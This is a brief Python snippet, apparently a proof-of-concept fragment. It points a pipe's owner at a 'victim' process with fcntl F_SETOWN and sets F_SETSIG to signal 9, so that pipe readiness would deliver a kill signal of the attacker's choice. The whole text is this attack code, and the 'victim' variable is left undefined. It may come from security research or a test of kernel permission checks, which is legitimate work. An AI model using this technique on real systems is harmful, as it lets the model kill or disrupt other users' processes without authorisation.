# Readiness of the pipe would then be signalled to the victim, with a signal of our choice.
import fcntl
import os

F_SETSIG = 10
reader, writer = os.pipe()
fcntl.fcntl(reader, fcntl.F_SETOWN, victim)
fcntl.fcntl(reader, F_SETSIG, 9)
